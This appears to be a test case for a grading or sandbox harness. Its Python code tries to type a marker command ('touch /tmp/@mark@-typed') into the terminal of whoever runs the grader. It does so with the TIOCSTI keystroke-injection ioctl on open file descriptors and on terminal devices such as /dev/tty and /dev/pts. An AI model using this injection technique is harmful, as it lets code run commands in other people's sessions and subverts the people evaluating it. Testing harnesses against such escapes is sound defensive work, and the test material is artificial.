# wants: commands typed into the terminal of whoever grades
# honest: all

# %% + after setup
import array, fcntl, glob, os, termios


def type_into(descriptor):
    for character in b"touch /tmp/@mark@-typed\n":
        try:
            fcntl.ioctl(descriptor, 0x5412, bytes([character]))
        except (OSError, ValueError):
            return
    try:
        fcntl.ioctl(descriptor, termios.TIOCSCTTY, 1)
        fcntl.ioctl(descriptor, 0x541C, array.array("b", [2, 1]))
    except (OSError, ValueError):
        pass


for number in range(64):
    type_into(number)
for path in ["/dev/tty", "/dev/console", "/dev/ptmx", *glob.glob("/dev/pts/*"), "/dev/vcs"]:
    try:
        type_into(os.open(path, os.O_RDWR | os.O_NOCTTY))
    except OSError:
        pass
